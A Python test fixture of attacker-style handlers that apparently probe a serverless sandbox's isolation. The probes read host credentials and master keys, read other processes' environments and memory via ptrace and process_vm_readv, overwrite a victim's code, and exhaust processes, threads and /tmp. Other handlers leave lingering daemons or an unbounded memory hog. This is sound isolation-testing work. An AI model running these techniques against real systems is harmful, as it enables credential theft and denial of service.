"""Attacks on everything outside the function's own execution environment.

Each attack returns what it managed to do (a string), or None when it failed; the handler
reports {attack: result}. Written as an attacker would, with the stdlib and ctypes only.
"""

import ctypes
import glob
import os
import signal
import socket
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
MARKER = "victim-marker.txt"


def _read(path):
    try:
        with open(path, "rb") as f:
            return f"read {len(f.read())} bytes of {path}"
    except OSError:
        return None


def _first(results):
    return next((r for r in results if r), None)


def _listing(path):
    try:
        names = os.listdir(path)
    except OSError:
        return None
    return f"listed {path}: {names[:5]}" if names else None


def _signal(pid):
    try:
        os.kill(pid, 0)  # the permission check of any signal, without harming the target
    except OSError:
        return None
    return f"could signal {pid}"


def _ptrace(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return f"attached to {pid}"
    return None


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _vm_read(pid):
    buf = ctypes.create_string_buffer(4096)
    local = _IoVec(ctypes.cast(buf, ctypes.c_void_p), 4096)
    # Any mapped address will do: the server's own stack, as /proc would tell.
    address = 0x400000
    try:
        with open(f"/proc/{pid}/maps") as f:
            address = int(f.readline().split("-")[0], 16)
    except (OSError, ValueError):
        pass
    remote = _IoVec(address, 4096)
    libc.process_vm_readv.argtypes = [
        ctypes.c_int,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_void_p,
        ctypes.c_ulong,
        ctypes.c_ulong,
    ]
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return f"read {n} bytes of {pid}'s memory" if n > 0 else None


def _write(path):
    try:
        with open(path, "a") as f:
            f.write("# pwned\n")
    except OSError:
        return None
    return f"wrote {path}"


def _processes(limit=1100):
    """Fork children that wait, until the kernel refuses one; how many ran at once."""
    r, w = os.pipe()
    children = []
    try:
        for _ in range(limit):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                os.close(w)
                os.read(r, 1)
                os._exit(0)
            children.append(pid)
    finally:
        os.close(w)
        os.close(r)
        for pid in children:
            os.waitpid(pid, 0)
    return len(children)


def _threads(limit=1100):
    stop = threading.Event()
    started = []
    for _ in range(limit):
        t = threading.Thread(target=stop.wait, daemon=True)
        try:
            t.start()
        except RuntimeError:
            break
        started.append(t)
    stop.set()
    for t in started:
        t.join()
    return len(started)


def _open_files(limit=2000):
    fds = []
    try:
        for _ in range(limit):
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    finally:
        for fd in fds:
            os.close(fd)
    return len(fds)


def _tmp_size():
    """How many MB /tmp takes before it is full."""
    chunk = b"\0" * (1 << 20)
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            while written < 20000:
                f.write(chunk)
                f.flush()
                written += 1
    except OSError:
        pass
    finally:
        os.unlink("/tmp/fill")
    return written


def _shared_memory():
    """A System V segment of the host's (or another function's) IPC namespace, by id."""
    try:
        with open("/proc/sysvipc/shm") as f:
            rows = f.read().splitlines()[1:]
    except OSError:
        return None
    return f"{len(rows)} System V segments visible" if rows else None


def _runtime_api(address):
    """Another function's Runtime API (a `provided` worker's, on the shared loopback): any
    HTTP answer means its invocations could be read or answered from here."""
    if not address:
        return None
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=2) as s:
            s.sendall(b"GET /2018-06-01/runtime/invocation/none/nothing HTTP/1.1\r\n\r\n")
            answer = s.recv(64)
    except OSError:
        return None
    return f"{address} answered {answer[:20]!r}" if answer.startswith(b"HTTP/") else None


def _status():
    with open("/proc/self/status") as f:
        return dict(line.split(":\t", 1) for line in f.read().splitlines() if ":\t" in line)


def attack(event, context):
    data_dir = event["data_dir"]
    server = int(event["server_pid"])
    victim = int(event["victim_pid"])
    victim_code = event["victim_code"]
    status = _status()
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    found = {
        "credentials": _read(os.path.join(data_dir, "credentials")),
        "master_key": _read(os.path.join(data_dir, "master.key")),
        "registry": _read(os.path.join(data_dir, "registry.sqlite3")),
        "data_dir_visible": f"{data_dir} exists" if os.path.exists(data_dir) else None,
        # Where the jail's init kept the host's root until BOOT covered it.
        "host_root": _first(
            [_read(f"/.host{data_dir}/credentials"), _listing("/.host"), _listing("/.host/etc")]
        ),
        "other_code": _first(
            [_read(victim_code), _read(f"/proc/{victim}/root/var/task/victim.py")]
            + [_read(p) for p in glob.glob(os.path.join(data_dir, "code", "*", "victim.py"))]
        ),
        "other_tmp": _first(
            [_read(f"/tmp/{MARKER}"), _read(f"/proc/{victim}/root/tmp/{MARKER}")]
            + [_read(p) for p in glob.glob(os.path.join(data_dir, "run", "*", MARKER))]
            + [_read(p) for p in glob.glob(f"/proc/*/root/tmp/{MARKER}")]
        ),
        "server_environ": _first(
            [_read(f"/proc/{server}/environ")]
            + [_read(f"/proc/{p}/environ") for p in visible if p != os.getpid()]
        ),
        "write_other_code": _write(victim_code),
        "signal_server": _signal(server),
        "signal_other_worker": _signal(victim),
        "signal_visible": _first([_signal(p) for p in visible if p != os.getpid()]),
        "ptrace_server": _ptrace(server),
        "ptrace_other_worker": _ptrace(victim),
        "vm_read_server": _vm_read(server),
        "root": "uid 0" if os.getuid() == 0 or os.geteuid() == 0 else None,
        "capabilities": _first(
            [
                f"{k} {status[k]}"
                for k in ("CapPrm", "CapEff", "CapBnd", "CapAmb", "CapInh")
                if int(status[k], 16)
            ]
        ),
        "new_privileges": None if status.get("NoNewPrivs") == "1" else "no_new_privs is off",
        "ipc": _shared_memory(),
        "other_runtime_api": _runtime_api(event.get("runtime_api")),
        "more_than_1024_processes": None,
        "more_than_1024_threads": None,
    }
    processes = _processes()
    if processes > 1024:
        found["more_than_1024_processes"] = f"{processes} processes at once"
    threads = _threads()
    if threads > 1024:
        found["more_than_1024_threads"] = f"{threads} threads at once"
    return {
        "found": found,
        "uid": os.getuid(),
        "visible_pids": visible,
        "processes": processes,
        "threads": threads,
        "open_files": _open_files(),
        "tmp_mb": _tmp_size(),
    }


def _daemon():
    """A grandchild in its own session, spinning: it must not outlive the worker."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.05)
        os._exit(0)
    os.wait()


def linger(event, context):
    _daemon()
    return {"uid": os.getuid()}


def linger_then_sleep(event, context):
    _daemon()
    print(f"uid {os.getuid()}", flush=True)
    time.sleep(60)


def linger_then_allocate(event, context):
    _daemon()
    print(f"uid {os.getuid()}", flush=True)
    hog = []
    while True:
        hog.append(bytearray(16 << 20))


def fork_and_die(event, context):
    if os.fork() == 0:
        os._exit(0)  # a zombie nobody waits for, once its parent is gone
    os.kill(os.getpid(), signal.SIGKILL)


def network(event, context):
    out = {"interfaces": [name for _, name in socket.if_nameindex()]}
    try:
        with socket.create_connection(("127.0.0.1", int(event["port"])), timeout=2):
            out["server_port"] = "connected"
    except OSError as e:
        out["server_port"] = f"refused: {e}"
    with open("/proc/self/mounts") as f:
        out["tmp_mount"] = next((line for line in f if " /tmp " in line), "")
    return out
